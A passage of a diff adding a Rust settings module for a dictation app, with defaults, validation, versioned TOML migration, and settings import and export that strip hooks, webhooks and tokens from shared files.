+#[serde(default)]
+pub struct LoggingSettings {
+    pub level: LogLevel,
+    pub max_file_mb: u64,
+    pub keep_files: usize,
+    pub log_transcripts: bool,
+    pub format: LogFormat,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum LogFormat {
+    Text,
+    Json,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum LogLevel {
+    Error,
+    Warn,
+    Info,
+    Debug,
+    Trace,
+}
+
+impl LogLevel {
+    pub const ALL: [LogLevel; 5] = [
+        LogLevel::Error,
+        LogLevel::Warn,
+        LogLevel::Info,
+        LogLevel::Debug,
+        LogLevel::Trace,
+    ];
+}
+
+impl From<LogLevel> for log::LevelFilter {
+    fn from(level: LogLevel) -> Self {
+        match level {
+            LogLevel::Error => log::LevelFilter::Error,
+            LogLevel::Warn => log::LevelFilter::Warn,
+            LogLevel::Info => log::LevelFilter::Info,
+            LogLevel::Debug => log::LevelFilter::Debug,
+            LogLevel::Trace => log::LevelFilter::Trace,
+        }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RetentionSettings {
+    pub save_recordings: bool,
+    pub recordings_days: u32,
+    pub history_days: u32,
+    pub logs_days: u32,
+    pub disk_budget_mb: u64,
+    pub keep_last_recording: bool,
+    pub keep_last_recording_mb: u64,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SinkKind {
+    /// Clipboard, paste or type, following the resolved `OutputMode`
+    Output,
+    AppendFile,
+    Webhook,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct SinkSettings {
+    pub kind: SinkKind,
+    #[serde(default = "default_true")]
+    pub enabled: bool,
+    /// File path for `append_file`, URL for `webhook`
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub target: String,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PromptAction {
+    /// Rewrite the text in the clipboard
+    Clipboard,
+    /// Record, then rewrite the transcript before it is delivered
+    Transcript,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct PromptSettings {
+    pub name: String,
+    pub prompt: String,
+    pub action: PromptAction,
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub hotkey: String,
+    #[serde(default = "default_true")]
+    pub in_tray: bool,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub rich_text: Option<bool>,
+}
+
+impl PromptSettings {
+    pub fn rich_text(&self, behavior: &BehaviorSettings) -> bool {
+        self.rich_text.unwrap_or(behavior.rich_text)
+    }
+}
+
+fn default_true() -> bool {
+    true
+}
+
+/// Overrides for a single application. Unset values fall back to `[behavior]`.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct AppOverride {
+    pub output_mode: Option<OutputMode>,
+    pub trailing_separator: Option<String>,
+    pub polish_style: Option<String>,
+    pub polish_paste_back: Option<PolishPasteBack>,
+    pub polish_undo_count: Option<usize>,
+}
+
+/// Output behavior after applying any override for the frontmost app
+#[derive(Debug, Clone, PartialEq)]
+pub struct ResolvedOutput {
+    pub mode: OutputMode,
+    pub trailing_separator: String,
+    pub polish_style: String,
+    pub polish_paste_back: PolishPasteBack,
+    pub polish_undo_count: usize,
+    /// The app whose override was applied, if any
+    pub matched_app: Option<String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct FillerSettings {
+    pub drop_filler_only: bool,
+    pub strip_edges: bool,
+    pub words: Vec<String>,
+}
+
+impl Default for Settings {
+    fn default() -> Self {
+        Self {
+            version: SETTINGS_VERSION,
+            audio: AudioSettings::default(),
+            hotkeys: HotkeySettings::default(),
+            api: ApiSettings::default(),
+            notifications: NotificationSettings::default(),
+            sounds: SoundSettings::default(),
+            behavior: BehaviorSettings::default(),
+            filler: FillerSettings::default(),
+            snippets: SnippetSettings::default(),
+            voice_commands: VoiceCommandSettings::default(),
+            session: SessionSettings::default(),
+            collect: CollectSettings::default(),
+            quality: QualitySettings::default(),
+            live: LiveSettings::default(),
+            wake: WakeSettings::default(),
+            watch_folder: WatchFolderSettings::default(),
+            automation: AutomationSettings::default(),
+            hook: HookSettings::default(),
+            quick_note: QuickNoteSettings::default(),
+            transcript_header: TranscriptHeaderSettings::default(),
+            updates: UpdateSettings::default(),
+            retention: RetentionSettings::default(),
+            logging: LoggingSettings::default(),
+            sinks: vec![SinkSettings {
+                kind: SinkKind::Output,
+                enabled: true,
+                target: String::new(),
+            }],
+            prompts: vec![],
+            app_overrides: BTreeMap::new(),
+        }
+    }
+}
+
+impl Default for AudioSettings {
+    fn default() -> Self {
+        Self {
+            gain: 3.0,
+            keep_warm: false,
+            input_device: None,
+            input_channel: None,
+            high_pass: false,
+            high_pass_hz: 80.0,
+            noise_suppression: false,
+            spill_after_secs: 120,
+            warn_if_muted: true,
+            avoid_bluetooth_mic: false,
+        }
+    }
+}
+
+impl Default for HotkeySettings {
+    fn default() -> Self {
+        Self {
+            toggle_recording: "CmdOrCtrl+Option+R".into(),
+            cleanse_clipboard: "CmdOrCtrl+Option+C".into(),
+            push_to_talk: String::new(),
+            cycle_clipboard: String::new(),
+            discard_recording: String::new(),
+            panic: String::new(),
+            repeat_last: String::new(),
+            quick_note: String::new(),
+            collect: String::new(),
+            type_boost_modifier: "Shift".into(),
+        }
+    }
+}
+
+impl Default for ApiSettings {
+    fn default() -> Self {
+        Self {
+            base_url: API_BASE_URL.into(),
+            timeout_secs: 60,
+            max_concurrency: 2,
+            upload_format: UploadFormat::Raw,
+            pause_on_quota_error: true,
+            retry_on_empty: false,
+            prewarm: true,
+            model: String::new(),
+            compression: Compression::Auto,
+            max_polish_tokens: 8000,
+            over_polish_limit: OverPolishLimit::Refuse,
+        }
+    }
+}
+
+impl Default for NotificationSettings {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            on_success: true,
+        }
+    }
+}
+
+impl Default for SoundSettings {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            volume: 0.5,
+            start: String::new(),
+            stop: String::new(),
+            success: String::new(),
+            error: String::new(),
+        }
+    }
+}
+
+impl Default for BehaviorSettings {
+    fn default() -> Self {
+        Self {
+            pause_media: true,
+            pause_media_delay_ms: 800,
+            idle_quit_minutes: 0,
+            output_mode: OutputMode::Clipboard,
+            trailing_separator: String::new(),
+            polish_style: "default".into(),
+            polish_paste_back: PolishPasteBack::Paste,
+            polish_undo_count: 1,
+            password_fields: PasswordFields::Clipboard,
+            polish_in_detected_language: false,
+            polish_language: None,
+            preserve_formatting: false,
+            rich_text: false,
+            push_to_talk_min_hold_ms: 300,
+            quick_tags: vec!["meeting".into(), "idea".into(), "todo".into()],
+            privacy_mode: false,
+            linux_primary_selection: false,
+            max_output_chars: 0,
+            over_length: OverLength::Truncate,
+            launch_at_login: false,
+            open_window_on_relaunch: false,
+            on_sleep: SleepAction::Transcribe,
+            pick_target: false,
+        }
+    }
+}
+
+impl Default for RetentionSettings {
+    fn default() -> Self {
+        Self {
+            save_recordings: false,
+            recordings_days: 7,
+            history_days: 90,
+            logs_days: 14,
+            disk_budget_mb: 500,
+            keep_last_recording: false,
+            keep_last_recording_mb: 25,
+        }
+    }
+}
+
+impl Default for SnippetSettings {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            phrases: BTreeMap::new(),
+        }
+    }
+}
+
+impl Default for SessionSettings {
+    fn default() -> Self {
+        Self {
+            silence_threshold: 0.02,
+            silence_ms: 900,
+            max_segment_secs: 30,
+            overlap_ms: 500,
+            chunk_recordings: false,
+            separator: " ".into(),
+            show_window: false,
+        }
+    }
+}
+
+impl Default for VoiceCommandSettings {
+    fn default() -> Self {
+        let commands = [
+            ("new line", "\n"),
+            ("new paragraph", "\n\n"),
+            ("comma", ","),
+            ("period", "."),
+            ("full stop", "."),
+            ("question mark", "?"),
+            ("exclamation mark", "!"),
+            ("exclamation point", "!"),
+            ("colon", ":"),
+            ("semicolon", ";"),
+            ("open quote", "\""),
+            ("close quote", "\""),
+            ("end quote", "\""),
+            ("open paren", "("),
+            ("close paren", ")"),
+        ];
+        Self {
+            enabled: false,
+            escape: "literally".into(),
+            commands: commands
+                .into_iter()
+                .map(|(phrase, symbol)| (phrase.into(), symbol.into()))
+                .collect(),
+        }
+    }
+}
+
+impl Default for CollectSettings {
+    fn default() -> Self {
+        Self {
+            separator: "\n\n".into(),
+            polish: false,
+        }
+    }
+}
+
+impl Default for QualitySettings {
+    fn default() -> Self {
+        Self {
+            auto: false,
+            fast_model: String::new(),
+            accurate_model: String::new(),
+            short_secs: 20,
+            long_secs: 120,
+        }
+    }
+}
+
+impl Default for LiveSettings {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            partial_interval_ms: 1500,
+        }
+    }
+}
+
+impl Default for WakeSettings {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            start_phrase: "start dictation".into(),
+            stop_phrase: "stop dictation".into(),
+            sensitivity: 0.5,
+        }
+    }
+}
+
+impl Default for WatchFolderSettings {
+    fn default() -> Self {
+        Self {
+            folder: String::new(),
+            output: TranscriptFormat::Txt,
+            max_attempts: 3,
+        }
+    }
+}
+
+impl Default for AutomationSettings {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            port: 47891,
+            token: String::new(),
+        }
+    }
+}
+
+impl Default for HookSettings {
+    fn default() -> Self {
+        Self {
+            kind: HookKind::Off,
+            url: String::new(),
+            command: String::new(),
+            timeout_secs: 10,
+            retries: 2,
+        }
+    }
+}
+
+impl Default for QuickNoteSettings {
+    fn default() -> Self {
+        Self {
+            path: "~/notes/{YYYY-MM-DD}.md".into(),
+            heading: "## %H:%M".into(),
+        }
+    }
+}
+
+impl Default for TranscriptHeaderSettings {
+    fn default() -> Self {
+        Self {
+            format: "[{date} {time}, {duration}]".into(),
+            quick_note: false,
+            append_file: false,
+            history_export: false,
+            output: false,
+        }
+    }
+}
+
+impl Default for UpdateSettings {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            channel: ReleaseChannel::Stable,
+            check_interval_hours: 24,
+        }
+    }
+}
+
+impl Default for LoggingSettings {
+    fn default() -> Self {
+        Self {
+            level: LogLevel::Debug,
+            max_file_mb: 5,
+            keep_files: 5,
+            log_transcripts: false,
+            format: LogFormat::Text,
+        }
+    }
+}
+
+impl Default for FillerSettings {
+    fn default() -> Self {
+        Self {
+            drop_filler_only: false,
+            strip_edges: false,
+            words: ["um", "uh", "uhm", "erm", "er", "ah", "hmm", "mm"]
+                .map(String::from)
+                .to_vec(),
+        }
+    }
+}
+
+impl Settings {
+    /// Parses a settings file, warning about unknown keys and rejecting bad values
+    pub fn from_toml(contents: &str) -> Result<Self> {
+        let raw: toml::Value = toml::from_str(contents).context("Invalid TOML")?;
+        Self::from_raw(raw)
+    }
+
+    fn from_raw(raw: toml::Value) -> Result<Self> {
+        let raw = Self::migrate(raw)?;
+
+        let mut unknown_keys = vec![];
+        let settings: Settings = serde_ignored::deserialize(raw, |path| {
+            unknown_keys.push(path.to_string());
+        })
+        .context("Invalid settings")?;
+
+        for key in unknown_keys {
+            log::warn!("Ignoring unknown settings key: {key}");
+        }
+
+        settings.validate()?;
+        settings.warn_unknown_style(&settings.behavior.polish_style);
+
+        Ok(settings)
+    }
+
+    /// Whether `style` is a built-in polish style or the name of a prompt
+    pub fn is_known_style(&self, style: &str) -> bool {
+        BUILT_IN_STYLES.contains(&style) || self.prompts.iter().any(|p| p.name == style)
+    }
+
+    /// Free-form styles predate the prompt library and still reach the backend as they
+    /// are, so an unknown one is only worth a warning
+    pub fn warn_unknown_style(&self, style: &str) {
+        if !self.is_known_style(style) {
+            log::warn!(
+                "`behavior.polish_style` {style:?} is neither a built-in style nor a prompt"
+            );
+        }
+    }
+
+    /// Serializes the settings with a comment above each known key
+    pub fn to_commented_toml(&self) -> Result<String> {
+        let plain = toml::to_string_pretty(self)?;
+        let mut out = String::new();
+        let mut section = "";
+        let mut documented = vec![];
+
+        for line in plain.lines() {
+            let key = match line.split_once('=') {
+                Some((key, _)) if section.is_empty() => key.trim().to_string(),
+                Some((key, _)) => format!("{section}.{}", key.trim()),
+                None => {
+                    if line.starts_with('[') {
+                        section = line.trim_matches(|c| c == '[' || c == ']');
+                    }
+                    line.trim().to_string()
+                }
+            };
+            if let Some((_, doc)) = FIELD_DOCS.iter().find(|(k, _)| *k == key) {
+                // Arrays of tables repeat their keys, only document the first one
+                if !documented.contains(&key) {
+                    out.push_str(&format!("# {doc}\n"));
+                    documented.push(key);
+                }
+            }
+            out.push_str(line);
+            out.push('\n');
+        }
+
+        Ok(out)
+    }
+
+    /// Upgrades a settings file written by an older version of the app by running
+    /// every pending migration in order. Runs on the raw TOML so renamed or moved keys
+    /// can be carried over. Files from a newer version are returned untouched.
+    pub fn migrate(mut raw: toml::Value) -> Result<toml::Value> {
+        let version = file_version(&raw)?;
+
+        if version > SETTINGS_VERSION {
+            log::warn!(
+                "Settings file version {version} is newer than this app supports \
+                 ({SETTINGS_VERSION}), unknown values are ignored"
+            );
+            return Ok(raw);
+        }
+
+        let table = raw.as_table_mut().context("Settings must be a TOML table")?;
+        for (i, migration) in MIGRATIONS.iter().enumerate().skip(version as usize - 1) {
+            migration(table).with_context(|| {
+                format!("Failed to migrate settings from version {}", i + 1)
+            })?;
+            log::info!("Migrated settings from version {} to {}", i + 1, i + 2);
+        }
+
+        table.insert("version".into(), toml::Value::Integer(SETTINGS_VERSION.into()));
+
+        Ok(raw)
+    }
+
+    /// Applies the override for `app_id` on top of the global behavior
+    pub fn resolve_output(&self, app_id: Option<&str>) -> ResolvedOutput {
+        let app_override = app_id.and_then(|id| {
+            self.app_overrides
+                .iter()
+                .find(|(key, _)| key.eq_ignore_ascii_case(id))
+        });
+        let (matched_app, app_override) = match app_override {
+            Some((key, app_override)) => (Some(key.clone()), app_override.clone()),
+            None => (None, AppOverride::default()),
+        };
+
+        ResolvedOutput {
+            mode: app_override.output_mode.unwrap_or(self.behavior.output_mode),
+            trailing_separator: app_override
+                .trailing_separator
+                .unwrap_or_else(|| self.behavior.trailing_separator.clone()),
+            polish_style: app_override
+                .polish_style
+                .unwrap_or_else(|| self.behavior.polish_style.clone()),
+            polish_paste_back: app_override
+                .polish_paste_back
+                .unwrap_or(self.behavior.polish_paste_back),
+            polish_undo_count: app_override
+                .polish_undo_count
+                .unwrap_or(self.behavior.polish_undo_count),
+            matched_app,
+        }
+    }
+
+    pub fn validate(&self) -> Result<()> {
+        if !(20.0..=500.0).contains(&self.audio.high_pass_hz) {
+            bail!(
+                "`audio.high_pass_hz` must be between 20 and 500, got {}",
+                self.audio.high_pass_hz
+            );
+        }
+        if !(0.1..=10.0).contains(&self.audio.gain) {
+            bail!("`audio.gain` must be between 0.1 and 10.0, got {}", self.audio.gain);
+        }
+        let hotkeys = self.hotkeys.named();
+        for (i, (name, hotkey)) in hotkeys.iter().enumerate() {
+            if Shortcut::from_str(hotkey).is_err() {
+                bail!("`hotkeys.{name}` is not a valid shortcut: {hotkey:?}");
+            }
+            if let Some((other, _)) = hotkeys[..i].iter().find(|(_, h)| h == hotkey) {
+                bail!("`hotkeys.{other}` and `hotkeys.{name}` are both {hotkey:?}");
+            }
+        }
+        if !self.api.base_url.starts_with("http://")
+            && !self.api.base_url.starts_with("https://")
+        {
+            bail!(
+                "`api.base_url` must start with http:// or https://, got {:?}",
+                self.api.base_url
+            );
+        }
+        for (i, sink) in self.sinks.iter().enumerate() {
+            match sink.kind {
+                SinkKind::Output => {}
+                SinkKind::AppendFile if sink.target.is_empty() => {
+                    bail!("`sinks[{i}].target` must be a file path for append_file");
+                }
+                SinkKind::Webhook
+                    if !sink.target.starts_with("http://")
+                        && !sink.target.starts_with("https://") =>
+                {
+                    bail!(
+                        "`sinks[{i}].target` must be an http(s) URL for webhook, got {:?}",
+                        sink.target
+                    );
+                }
+                _ => {}
+            }
+        }
+        if self.api.timeout_secs == 0 {
+            bail!("`api.timeout_secs` must be greater than 0");
+        }
+        if self.api.max_concurrency == 0 {
+            bail!("`api.max_concurrency` must be greater than 0");
+        }
+        if !(0.0..=1.0).contains(&self.session.silence_threshold) {
+            bail!(
+                "`session.silence_threshold` must be between 0.0 and 1.0, got {}",
+                self.session.silence_threshold
+            );
+        }
+        if self.retention.keep_last_recording_mb == 0 {
+            bail!("`retention.keep_last_recording_mb` must be greater than 0");
+        }
+        if self.session.silence_ms == 0 {
+            bail!("`session.silence_ms` must be greater than 0");
+        }
+        if self.session.max_segment_secs > 0
+            && self.session.overlap_ms >= self.session.max_segment_secs * 1000
+        {
+            bail!(
+                "`session.overlap_ms` must be shorter than `session.max_segment_secs`, got {}",
+                self.session.overlap_ms
+            );
+        }
+        if self.live.partial_interval_ms < 250 {
+            bail!(
+                "`live.partial_interval_ms` must be at least 250, got {}",
+                self.live.partial_interval_ms
+            );
+        }
+        if !(0.0..=1.0).contains(&self.wake.sensitivity) {
+            bail!(
+                "`wake.sensitivity` must be between 0 and 1, got {}",
+                self.wake.sensitivity
+            );
+        }
+        if self.wake.start_phrase.trim().is_empty()
+            || self.wake.stop_phrase.trim().is_empty()
+        {
+            bail!("`wake.start_phrase` and `wake.stop_phrase` can't be empty");
+        }
+        if !self.watch_folder.folder.is_empty()
+            && !Path::new(&self.watch_folder.folder).is_absolute()
+        {
+            bail!(
+                "`watch_folder.folder` must be an absolute path, got {:?}",
+                self.watch_folder.folder
+            );
+        }
+        if self.watch_folder.max_attempts == 0 {
+            bail!("`watch_folder.max_attempts` must be greater than 0");
+        }
+        if !(0.0..=1.0).contains(&self.sounds.volume) {
+            bail!(
+                "`sounds.volume` must be between 0.0 and 1.0, got {}",
+                self.sounds.volume
+            );
+        }
+        if self.automation.enabled && self.automation.token.chars().count() < 16 {
+            bail!(
+                "`automation.token` must be at least 16 characters to enable automation"
+            );
+        }
+        if self.automation.port == 0 {
+            bail!("`automation.port` must be greater than 0");
+        }
+        if self.quality.short_secs > self.quality.long_secs {
+            bail!("`quality.short_secs` must not be more than `quality.long_secs`");
+        }
+        match self.hook.kind {
+            HookKind::Http
+                if !self.hook.url.starts_with("http://")
+                    && !self.hook.url.starts_with("https://") =>
+            {
+                bail!(
+                    "`hook.url` must be an http(s) URL for the http hook, got {:?}",
+                    self.hook.url
+                );
+            }
+            HookKind::Command if self.hook.command.trim().is_empty() => {
+                bail!("`hook.command` must be set for the command hook");
+            }
+            _ => {}
+        }
+        transcript_header::validate(&self.transcript_header.format)?;
+        if self.quick_note.path.trim().is_empty() {
+            bail!("`quick_note.path` must not be empty");
+        }
+        if self.hook.timeout_secs == 0 {
+            bail!("`hook.timeout_secs` must be greater than 0");
+        }
+        if self.updates.check_interval_hours == 0 {
+            bail!("`updates.check_interval_hours` must be greater than 0");
+        }
+        if let Some(language) = self
+            .behavior
+            .polish_language
+            .as_ref()
+            .filter(|l| !is_language_code(l))
+        {
+            bail!(
+                "`behavior.polish_language` must be a language code like \"de\" or \"pt-BR\", got {language:?}"
+            );
+        }
+        Ok(())
+    }
+}
+
+/// A two or three letter language, optionally with a two letter or three digit region
+fn is_language_code(code: &str) -> bool {
+    let (language, region) = match code.split_once('-') {
+        Some((language, region)) => (language, Some(region)),
+        None => (code, None),
+    };
+    (2..=3).contains(&language.len())
+        && language.chars().all(|c| c.is_ascii_alphabetic())
+        && region.is_none_or(|r| {
+            (r.len() == 2 && r.chars().all(|c| c.is_ascii_alphabetic()))
+                || (r.len() == 3 && r.chars().all(|c| c.is_ascii_digit()))
+        })
+}
+
+pub fn settings_path() -> Result<PathBuf> {
+    Ok(paths::config_dir()?.join(SETTINGS_FILE))
+}
+
+/// Loads the settings file, creating it with commented defaults if missing.
+/// A file that fails to load is backed up and the settings become read-only until it's
+/// fixed, see `LOAD_FAILED`.
+pub fn load_or_create() -> Result<Settings> {
+    let path = settings_path()?;
+
+    if path.exists() {
+        return load(&path).or_else(|e| {
+            LOAD_FAILED.store(true, Ordering::Relaxed);
+            match back_up_invalid(&path) {
+                Ok(backup) => Err(e.context(format!(
+                    "Failed to load {}, a copy is at {}",
+                    path.display(),
+                    backup.display()
+                ))),
+                Err(backup_error) => {
+                    log::error!("Failed to back up {}: {backup_error:#}", path.display());
+                    Err(e.context(format!("Failed to load {}", path.display())))
+                }
+            }
+        });
+    }
+
+    let mut settings = Settings::default();
+    import_legacy_shortcuts(&mut settings);
+    save(&settings)?;
+    log::info!("Created default settings at {}", path.display());
+
+    Ok(settings)
+}
+
+/// Loads an existing settings file. Older files are upgraded and written back, keeping
+/// the original next to it as `settings.toml.v<N>.bak`.
+fn load(path: &Path) -> Result<Settings> {
+    let contents = std::fs::read_to_string(path)?;
+    let raw: toml::Value = toml::from_str(&contents).context("Invalid TOML")?;
+    let version = file_version(&raw)?;
+    let settings = Settings::from_raw(raw)?;
+
+    if version > SETTINGS_VERSION {
+        READ_ONLY.store(true, Ordering::Relaxed);
+        log::warn!("Settings are read-only until the app is updated");
+    } else if version < SETTINGS_VERSION {
+        let backup = path.with_extension(format!("toml.v{version}.bak"));
+        std::fs::copy(path, &backup)?;
+        save(&settings)?;
+        log::info!(
+            "Upgraded {} to version {SETTINGS_VERSION}, original kept at {}",
+            path.display(),
+            backup.display()
+        );
+    }
+
+    Ok(settings)
+}
+
+/// Copies a settings file that failed to load to `settings.toml.invalid.bak`, so it
+/// survives whatever happens to the original while it's being fixed
+fn back_up_invalid(path: &Path) -> Result<PathBuf> {
+    let backup = path.with_extension("toml.invalid.bak");
+    std::fs::copy(path, &backup)?;
+    Ok(backup)
+}
+
+/// Whether changes are refused because the settings file failed to load
+pub fn load_failed() -> bool {
+    LOAD_FAILED.load(Ordering::Relaxed)
+}
+
+/// Files written before the `version` key existed count as version 1
+fn file_version(raw: &toml::Value) -> Result<u32> {
+    match raw.get("version") {
+        Some(v) => {
+            let version = v.as_integer().context("`version` must be an integer")?;
+            Ok(version.clamp(1, u32::MAX.into()) as u32)
+        }
+        None => Ok(1),
+    }
+}
+
+/// - Moves `api.api_key` out of the file into the keychain
+/// - Normalizes hotkeys like `cmd + option + r` to `Cmd+Alt+R`
+fn migrate_v1_to_v2(table: &mut toml::Table) -> Result<()> {
+    if let Some(api) = table.get_mut("api").and_then(|api| api.as_table_mut()) {
+        if let Some(api_key) = api.remove("api_key") {
+            let api_key = api_key.as_str().context("`api.api_key` must be a string")?;
+            if !api_key.is_empty() {
+                api_key::save(api_key)?;
+            }
+        }
+    }
+
+    if let Some(hotkeys) = table.get_mut("hotkeys").and_then(|h| h.as_table_mut()) {
+        for (_, value) in hotkeys.iter_mut() {
+            if let Some(hotkey) = value.as_str() {
+                *value = toml::Value::String(normalize_hotkey(hotkey));
+            }
+        }
+    }
+
+    Ok(())
+}
+
+fn normalize_hotkey(hotkey: &str) -> String {
+    hotkey
+        .split('+')
+        .map(|key| {
+            let key = key.trim();
+            match key.to_ascii_lowercase().as_str() {
+                "cmd" | "command" | "meta" => "Cmd".to_string(),
+                "option" | "opt" | "alt" => "Alt".to_string(),
+                "ctrl" | "control" => "Ctrl".to_string(),
+                "shift" => "Shift".to_string(),
+                "cmdorctrl" | "commandorcontrol" => "CmdOrCtrl".to_string(),
+                _ if key.chars().count() == 1 => key.to_uppercase(),
+                _ => key.to_string(),
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("+")
+}
+
+pub fn save(settings: &Settings) -> Result<()> {
+    if READ_ONLY.load(Ordering::Relaxed) {
+        bail!("Settings come from a newer version of the app and can't be changed");
+    }
+    if load_failed() {
+        bail!("settings.toml failed to load, fix it before changing settings");
+    }
+    let path = settings_path()?;
+    std::fs::create_dir_all(paths::config_dir()?)?;
+    std::fs::write(&path, settings.to_commented_toml()?)?;
+    Ok(())
+}
+
+/// Carries over hotkeys from the `shortcuts.json` file used before `settings.toml`
+fn import_legacy_shortcuts(settings: &mut Settings) {
+    #[derive(Deserialize)]
+    struct LegacyShortcuts {
+        toggle_recording: String,
+        cleanse_clipboard: String,
+    }
+
+    let Ok(path) = paths::config_dir().map(|dir| dir.join(LEGACY_SHORTCUTS_FILE)) else {
+        return;
+    };
+    let Ok(contents) = std::fs::read_to_string(&path) else {
+        return;
+    };
+    match serde_json::from_str::<LegacyShortcuts>(&contents) {
+        Ok(legacy) => {
+            settings.hotkeys.toggle_recording = legacy.toggle_recording;
+            settings.hotkeys.cleanse_clipboard = legacy.cleanse_clipboard;
+            log::info!("Imported hotkeys from {}", path.display());
+        }
+        Err(e) => log::warn!("Ignoring unreadable {}: {e}", path.display()),
+    }
+}
+
+/// Portable snapshot of the settings for moving a setup between machines.
+/// The API key is kept in the system keychain and is never part of an export, and
+/// the automation token, the hook and webhook sinks are left out too.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct SettingsExport {
+    pub app_version: String,
+    pub exported_at: DateTime<Utc>,
+    pub settings: serde_json::Value,
+    /// Only present when the user chose to include it with a passphrase
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub api_key: Option<SealedKey>,
+}
+
+pub fn export_json(
+    settings: &Settings,
+    app_version: &str,
+    api_key: Option<SealedKey>,
+) -> Result<String> {
+    let mut settings = settings.clone();
+    // Without its token the server can't stay on
+    settings.automation.enabled = false;
+    settings.automation.token.clear();
+    // A shared export must not carry commands to run or where transcripts are sent
+    settings.hook = HookSettings::default();
+    settings.sinks.retain(|sink| sink.kind != SinkKind::Webhook);
+    let export = SettingsExport {
+        app_version: app_version.into(),
+        exported_at: Utc::now(),
+        settings: serde_json::to_value(&settings)?,
+        api_key,
+    };
+    Ok(serde_json::to_string_pretty(&export)?)
+}
+
+/// Parses an export file, running it through the same migration and validation as
+/// `settings.toml`. Also returns the sealed API key if the export has one. The hook
+/// and webhook sinks stay as in `current`, see `keep_local_hooks`.
+pub fn import_json(
+    contents: &str,
+    current: &Settings,
+) -> Result<(Settings, Option<SealedKey>)> {
+    let export: SettingsExport =
+        serde_json::from_str(contents).context("Not a settings export file")?;
+    let raw = json_to_toml(export.settings).context("Export contains no settings")?;
+    if file_version(&raw)? > SETTINGS_VERSION {
+        bail!(
+            "The export comes from a newer version of the app ({})",
+            export.app_version
+        );
+    }
+    let mut settings = Settings::from_raw(raw)?;
+    keep_local_hooks(&mut settings, current);
+    Ok((settings, export.api_key))
+}
+
+/// An export file can come from anyone, and a hook would run its command or send
+/// every transcript to its URL. Those are only ever set up on this machine, so the
+/// file's are replaced with the current ones.
+fn keep_local_hooks(imported: &mut Settings, current: &Settings) {
+    let webhooks = |settings: &Settings| -> Vec<SinkSettings> {
+        settings
+            .sinks
+            .iter()
+            .filter(|sink| sink.kind == SinkKind::Webhook)
+            .cloned()
+            .collect()
+    };
+    if imported.hook != current.hook || webhooks(imported) != webhooks(current) {
+        log::warn!(
+            "Ignoring the hook and webhook sinks in the import, keeping this machine's"
+        );
+    }
+    imported.hook = current.hook.clone();
+    imported.sinks.retain(|sink| sink.kind != SinkKind::Webhook);
+    imported.sinks.extend(webhooks(current));
+}
+
+/// Dotted paths of every value that differs between two settings
+pub fn diff(old: &Settings, new: &Settings) -> Vec<String> {
+    fn walk(
+        prefix: &str,
+        old: &serde_json::Value,
+        new: &serde_json::Value,
+        out: &mut Vec<String>,
+    ) {
+        match (old, new) {
+            (serde_json::Value::Object(old), serde_json::Value::Object(new)) => {
+                let mut keys: Vec<_> = old.keys().chain(new.keys()).collect();
+                keys.sort();
+                keys.dedup();
+                for key in keys {
+                    let path = if prefix.is_empty() {
+                        key.clone()
+                    } else {
+                        format!("{prefix}.{key}")
+                    };
+                    let null = serde_json::Value::Null;
+                    walk(
+                        &path,
+                        old.get(key).unwrap_or(&null),
+                        new.get(key).unwrap_or(&null),
+                        out,
+                    );
+                }
+            }
+            (old, new) if old != new => out.push(prefix.into()),
+            _ => {}
+        }
+    }
+
+    let mut out = vec![];
+    let (Ok(old), Ok(new)) = (serde_json::to_value(old), serde_json::to_value(new))
+    else {
+        return out;
+    };
+    walk("", &old, &new, &mut out);
+    out
+}
+
+/// Applies a partial JSON object on top of `settings`. Objects merge key by key,
+/// anything else (arrays included) replaces the current value. Unknown keys are an
+/// error rather than a warning, since they come from the UI and not a hand-edited file.
+pub fn merge_json(settings: &Settings, partial: serde_json::Value) -> Result<Settings> {
+    fn merge(base: &mut serde_json::Value, partial: serde_json::Value) {
+        match (base, partial) {
+            (serde_json::Value::Object(base), serde_json::Value::Object(partial)) => {
+                for (key, value) in partial {
+                    match base.get_mut(&key) {
+                        Some(existing) => merge(existing, value),
+                        None => {
+                            base.insert(key, value);
+                        }
+                    }
+                }
+            }
+            (base, partial) => *base = partial,
+        }
+    }
+
+    if !partial.is_object() {
+        bail!("Settings changes must be an object");
+    }
+    let mut merged = serde_json::to_value(settings)?;
+    merge(&mut merged, partial);
+
+    let mut unknown_keys = vec![];
+    let settings: Settings = serde_ignored::deserialize(merged, |path| {
+        unknown_keys.push(path.to_string());
+    })
+    .context("Invalid settings")?;
+    if let Some(key) = unknown_keys.first() {
+        bail!("`{key}` is not a setting");
+    }
+    settings.validate()?;
+    Ok(settings)
+}
+
+/// TOML has no null, so unset optional values are dropped
+fn json_to_toml(value: serde_json::Value) -> Option<toml::Value> {
+    use serde_json::Value as Json;
+    Some(match value {
+        Json::Null => return None,
+        Json::Bool(b) => toml::Value::Boolean(b),
+        Json::Number(n) => match n.as_i64() {
+            Some(i) => toml::Value::Integer(i),
+            None => toml::Value::Float(n.as_f64()?),
+        },
